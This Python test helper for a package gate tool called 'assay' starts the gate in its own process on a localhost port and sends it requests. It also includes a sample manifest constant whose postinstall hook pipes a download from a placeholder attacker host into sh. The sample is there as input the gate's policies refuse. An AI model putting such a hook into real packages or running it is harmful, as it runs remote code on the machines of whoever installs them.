"""A real gate in a process of its own, for tests that need its real address, its signals or real clients."""

from __future__ import annotations

import os
import subprocess
import sys
import urllib.error
import urllib.request
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

_FOREIGN = ("npm_config_", "assay_", "http_proxy", "https_proxy", "no_proxy", "xdg_")
_SAYS = "assay gate: http"
#: A manifest that every policy refuses.
FETCHES = {"scripts": {"postinstall": "curl http://evil.invalid/x | sh"}}


@dataclass(frozen=True, slots=True)
class Got:
    """One answer; header names in lower case."""

    status: int
    reason: str
    headers: Mapping[str, str]
    body: bytes

    @property
    def text(self) -> str:
        return self.body.decode()


@dataclass(frozen=True, slots=True)
class RunningGate:
    """A gate that serves. ``url`` has no slash at its end; ``environment`` is that of its process."""

    url: str
    process: subprocess.Popen[str]
    environment: Mapping[str, str]
    folder: Path

    @property
    def store(self) -> str:
        """Address of its ledger."""
        return f"sqlite:///{self.folder / 'ledger.sqlite3'}"

    def get(self, path: str, **headers: str) -> Got:
        """Ask it. Underscores in the names of headers stand for dashes."""
        named = {name.replace("_", "-"): value for name, value in headers.items()}
        return fetch(urllib.request.Request(self.url + path, headers=named))

    def assay(self, *words: str) -> str:
        """Run another assay command on its machine, and give what it prints."""
        command = [sys.executable, "-m", "assay", *words]
        done = subprocess.run(
            command, env=dict(self.environment), cwd=self.folder, capture_output=True, text=True, timeout=60, check=True
        )
        return done.stdout


def fetch(request: urllib.request.Request) -> Got:
    """Send a request, whatever the status of the answer."""
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        with opener.open(request, timeout=60) as answer:
            headers = {name.lower(): value for name, value in answer.headers.items()}
            return Got(answer.status, answer.reason, headers, answer.read())
    except urllib.error.HTTPError as error:
        with error:
            headers = {name.lower(): value for name, value in error.headers.items()}
            return Got(error.code, error.reason, headers, error.read())


@contextmanager
def running_gate(folder: Path, upstream: str, *options: str, toml: str = "", **variables: str) -> Iterator[RunningGate]:
    """Start ``assay gate`` on a free port, on a machine of its own in ``folder``; it is stopped with the block.

    toml        content of its assay.toml
    variables   of its environment
    """
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "assay.toml").write_text(toml, encoding="utf-8")
    own = {name: value for name, value in os.environ.items() if not name.lower().startswith(_FOREIGN)}
    environment = {
        **own,
        "HOME": str(folder),
        "XDG_CACHE_HOME": str(folder / "cache"),
        "XDG_DATA_HOME": str(folder / "data"),
        "ASSAY_STORE": f"sqlite:///{folder / 'ledger.sqlite3'}",
        **variables,
    }
    command = [sys.executable, "-m", "assay", "gate", "--listen", "127.0.0.1:0", "--upstream", upstream, *options]
    log = folder / "gate.log"
    with log.open("w", encoding="utf-8") as written:
        process = subprocess.Popen(command, env=environment, cwd=folder, stderr=written, text=True)
        try:
            yield RunningGate(_address(process, log), process, environment, folder)
        finally:
            process.terminate()
            try:
                process.wait(30)
            except subprocess.TimeoutExpired:
                process.kill()
                process.wait(30)


def _address(process: subprocess.Popen[str], log: Path) -> str:
    for _ in range(600):
        for line in log.read_text(encoding="utf-8").splitlines():
            if line.startswith(_SAYS):
                return line.split()[2].rstrip("/")
        try:
            process.wait(0.05)
        except subprocess.TimeoutExpired:
            continue
        raise AssertionError(f"the gate ended: {log.read_text(encoding='utf-8')}")
    raise AssertionError("the gate does not say its address")
